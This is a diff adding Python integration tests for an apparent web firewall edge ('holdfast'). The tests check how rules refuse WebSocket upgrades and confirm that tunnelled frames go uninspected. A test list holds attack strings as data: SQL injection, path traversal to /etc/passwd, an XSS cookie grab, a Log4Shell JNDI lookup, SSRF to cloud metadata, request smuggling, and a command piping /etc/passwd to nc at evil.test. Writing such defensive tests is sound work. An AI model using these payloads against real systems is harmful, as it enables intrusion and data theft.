@@ -1,29 +1,67 @@
-"""Rules on the way to the 101, seen from clients: refused requests, and the tunnel that nobody inspects."""
+"""Rules on the way to the 101, seen from clients: what is refused and how, and the tunnel that nobody inspects."""
 
 import json
+import socket
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
 import pytest
+from websockets.sync.client import connect
 
+from holdfast.edge.firewall.counters_file import counters_file, open_counters
+from holdfast.edge.firewall.values import CUSTOM, MANAGED, RATE_LIMITS
+from holdfast.limits.counters import RateCounters
+from holdfast.model.request import Request
 from holdfast.model.rule_documents import RulesetDocument
+from holdfast.model.security_event import SecurityEvent
 from holdfast.model.zone_document import ZoneDocument
+from holdfast.rules.managed import HOLDFAST_RULESET_ID
 from tests.integration import wire
 from tests.integration.certificates import Authority
+from tests.integration.frames import BINARY, TEXT, Frame
 from tests.integration.zone_parts import ORIGIN_IP, Bench, bench
-from tests.unit.edge.firewall.rules import a_rule, a_ruleset
+from tests.unit.edge.firewall.rules import a_limit, a_rule, a_ruleset, an_access_rule
 from tests.unit.edge.origins import a_document, a_record
 
 HOST = "chat.example.com"
+KEY = "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="
+
+
+class Recorded:
+    """The events of an edge."""
+
+    def __init__(self) -> None:
+        self.events: list[SecurityEvent] = []
+
+    def __call__(self, request: Request, events: Any) -> None:
+        assert all(event.ray == request.ray for event in events)
+        self.events.extend(events)
+
+    def said(self) -> list[tuple[str, str, int]]:
+        return [(event.rule_id, event.action, event.status) for event in self.events]
 
 
 @pytest.fixture
-def parts(tmp_path: Path, authority: Authority) -> Iterator[Bench]:
+def recorded() -> Recorded:
+    return Recorded()
+
+
+@pytest.fixture
+def parts(tmp_path: Path, authority: Authority, recorded: Recorded) -> Iterator[Bench]:
     with bench(tmp_path, authority.issue("own.test", common_name="own")) as everything:
-        everything.start_edge()
-        everything.control.welcome()
+        start(everything, tmp_path, recorded)
         yield everything
+
+
+def start(parts: Bench, directory: Path, recorded: Recorded) -> None:
+    """An edge that counts in `directory`, and control's welcome."""
+
+    def counters() -> RateCounters:
+        return open_counters(counters_file(directory), log=lambda *_: None, size=1024 * 1024)
+
+    parts.start_edge(open_counters=counters, record=recorded)
+    parts.control.welcome()
 
 
 def zone(*rulesets: RulesetDocument, **fields: Any) -> ZoneDocument:
@@ -39,7 +77,12 @@ def upgrade(parts: Bench, target: str = "/echo", *lines: str) -> tuple[wire.Answ
         return answer, b"" if answer.status == 101 else client.read_body(answer)
 
 
-def test_a_custom_rule_refuses_an_upgrade_and_lets_others_through(parts: Bench) -> None:
+def ask(parts: Bench, *lines: str, method: str = "GET", target: str = "/", body: bytes = b"") -> wire.Answer:
+    with wire.connect(parts.plain) as client:
+        return client.request(wire.request(method, target, *lines, host=HOST, body=body))[0]
+
+
+def test_a_custom_rule_refuses_an_upgrade_and_lets_others_through(parts: Bench, recorded: Recorded) -> None:
     rule = a_rule("b" * 32, expression='http.request.uri.path eq "/echo" and http.request.uri.query eq "no"')
     parts.control.full(zone(a_ruleset(rule, ident="a" * 32)))
     answer, body = upgrade(parts, "/echo?no")
@@ -50,3 +93,131 @@ def test_a_custom_rule_refuses_an_upgrade_and_lets_others_through(parts: Bench) 
         f'rule;id="{"b" * 32}";ruleset="{"a" * 32}";phase=http_request_firewall_custom;zone="example.com"'
     )
     assert upgrade(parts, "/echo?yes")[0].status == 101
+    assert recorded.said() == [("b" * 32, "block", 403)]
+    assert recorded.events[0].fields == (("http.request.uri.path", "/echo"), ("http.request.uri.query", "no"))
+
+
+def test_a_challenge_is_a_block_that_says_why(parts: Bench) -> None:
+    parts.control.full(zone(a_ruleset(a_rule("c", "managed_challenge"))))
+    answer, body = upgrade(parts)
+    assert (answer.status, answer.value("cf-error-type")) == (403, "1020")
+    assert "which a WebSocket cannot solve" in json.loads(body)["detail"]
+    page = ask(parts, "Accept: text/html")
+    assert (page.status, page.value("Content-Type")) == (403, "text/html; charset=utf-8")
+
+
+def test_a_custom_answer_reaches_the_client_as_it_is(parts: Bench) -> None:
+    response = {"status_code": 410, "content_type": "application/json", "content": '{"gone":true}'}
+    parts.control.full(zone(a_ruleset(a_rule("c", response=response))))
+    answer, body = upgrade(parts)
+    assert (answer.status, answer.value("Content-Type"), body) == (410, "application/json", b'{"gone":true}')
+    assert answer.value("CF-Ray")
+
+
+def test_an_access_rule_refuses_an_address(parts: Bench) -> None:
+    parts.control.full(zone(access_rules=(an_access_rule("x", "block", "ip_range", "127.0.0.0/8"),)))
+    answer, body = upgrade(parts)
+    assert (answer.status, json.loads(body)["error_code"]) == (403, 1006)
+    allowed = an_access_rule("y", "whitelist", "ip", "127.0.0.1")
+    blocking = a_ruleset(a_rule("b"))
+    parts.control.delta(zone(blocking, access_rules=(an_access_rule("x", "block", "ip_range", "127.0.0.0/8"), allowed)))
+    assert upgrade(parts)[0].status == 101
+
+
+def test_a_limit_holds_through_news_and_through_another_edge(parts: Bench, tmp_path: Path, recorded: Recorded) -> None:
+    limited = zone(a_ruleset(a_limit("l", 2, period=3600), phase=RATE_LIMITS))
+    parts.control.full(limited)
+    assert [upgrade(parts)[0].status for _ in range(3)] == [101, 101, 429]
+    answer, body = upgrade(parts)
+    assert (answer.status, json.loads(body)["error_code"]) == (429, 1015)
+    assert 1 <= int(answer.value("Retry-After")) <= 3600
+    # Another version of the zone, then another edge on the same ports and directory, as in a release.
+    parts.control.delta(zone(a_ruleset(a_rule("n", expression="false")), *limited.rulesets))
+    assert upgrade(parts)[0].status == 429
+    start(parts, tmp_path, recorded)
+    parts.control.full(limited)
+    assert [upgrade(parts)[0].status for _ in range(5)] == [429] * 5
+
+
+UPGRADES_THAT_ARE_NONE = {
+    "without Connection": ("GET", ["Upgrade: websocket", KEY, "Sec-WebSocket-Version: 13"], b""),
+    "h2c": ("GET", ["Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"], b""),
+    "POST": ("POST", ["Connection: Upgrade", "Upgrade: websocket", KEY, "Sec-WebSocket-Version: 13"], b"a=1"),
+    "no key": ("GET", ["Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13"], b""),
+    "another version": ("GET", ["Connection: Upgrade", "Upgrade: websocket", KEY, "Sec-WebSocket-Version: 8"], b""),
+    "another protocol": ("GET", ["Connection: Upgrade", "Upgrade: websocket2"], b""),
+    "Connection without Upgrade": ("GET", ["Connection: Upgrade"], b""),
+    "chunked": ("POST", ["Connection: Upgrade", "Upgrade: h2c", "Transfer-Encoding: chunked"], b"1\r\nx\r\n0\r\n\r\n"),
+}
+
+
+@pytest.mark.parametrize("kind", UPGRADES_THAT_ARE_NONE)
+@pytest.mark.parametrize("phase", [CUSTOM, MANAGED])
+def test_what_only_looks_like_an_upgrade_goes_round_no_rule(parts: Bench, kind: str, phase: str, token: str) -> None:
+    method, lines, body = UPGRADES_THAT_ARE_NONE[kind]
+    parts.control.full(zone(a_ruleset(a_rule("b"), phase=phase)))
+    answer = ask(parts, *lines, method=method, target=f"/status/200?{token}", body=body)
+    assert answer.status in {400, 403, 426}, "refused by the rule, or by the edge before it asked anybody"
+    assert parts.plain_origin.look_up(token) is None
+
+
+HATED = [
+    "GET /admin?id=1'%20OR%20'1'='1 HTTP/1.1\r\nHost: chat.example.com\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
+    "POST /../../etc/passwd HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 0\r\n\r\nGET / HTTP/1.1\r\n\r\n",
+    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
+    "../../../../etc/passwd\x00",
+    "' UNION SELECT password FROM users--",
+    "<script>alert(document.cookie)</script>",
+    "${jndi:ldap://evil.test/a}",
+    "; cat /etc/passwd | nc evil.test 1",
+    "http://169.254.169.254/latest/meta-data/",
+    "blocked-word",
+]
+# The same where rules look: in a query.
+IN_QUERIES = [
+    "/echo?f=../../../../etc/passwd",
+    "/echo?q=%27%20UNION%20SELECT%20password%20FROM%20users--",
+    "/echo?q=%3Cscript%3Ealert(1)%3C/script%3E",
+    "/echo?q=$%7Bjndi:ldap://evil.test/a%7D",
+    "/echo?q=blocked-word",
+]
+
+
+def test_nothing_in_the_tunnel_is_inspected(parts: Bench, recorded: Recorded) -> None:
+    parts.control.full(
+        zone(
+            a_ruleset(a_rule("word", expression='http.request.full_uri contains "blocked-word"')),
+            a_ruleset(a_limit("limit", 1000), phase=RATE_LIMITS),
+            a_ruleset(a_rule("deploy", executes=HOLDFAST_RULESET_ID), phase=MANAGED),
+        )
+    )
+    assert [upgrade(parts, target)[0].status for target in IN_QUERIES] == [403] * len(IN_QUERIES)
+    refused = len(recorded.events)
+    with (
+        socket.create_connection(parts.plain) as connection,
+        connect(f"ws://{HOST}:{parts.plain[1]}/echo", sock=connection, compression=None) as client,
+    ):
+        for text in HATED:
+            client.send(text)
+            assert client.recv() == text
+            client.send(text.encode())
+            assert client.recv() == text.encode()
+        everything = "\r\n".join(HATED) * 200
+        client.send(everything)
+        assert client.recv() == everything
+    assert len(recorded.events) == refused, "nothing was recorded of it either"
+
+
+def test_frames_that_look_like_requests_pass_wherever_they_are_cut(parts: Bench) -> None:
+    parts.control.full(zone(a_ruleset(a_rule("word", expression='http.request.uri.path eq "/admin"'))))
+    request = HATED[0].encode()
+    # Unmasked in the payload's sense: with a mask of zeros the bytes on the wire are the request itself.
+    frame = Frame(BINARY, request, mask=bytes(4)).encode()
+    assert request in frame
+    with wire.connect(parts.plain) as client:
+        # Together with the head, as a smuggler would: what follows it belongs to the tunnel.
+        client.send(wire.upgrade("/echo", host=HOST) + frame)
+        assert client.read_answer().status == 101
+        assert client.read_message() == request
+        client.send_byte_by_byte(Frame(TEXT, request, mask=bytes(4)).encode())
+        assert client.read_message() == request
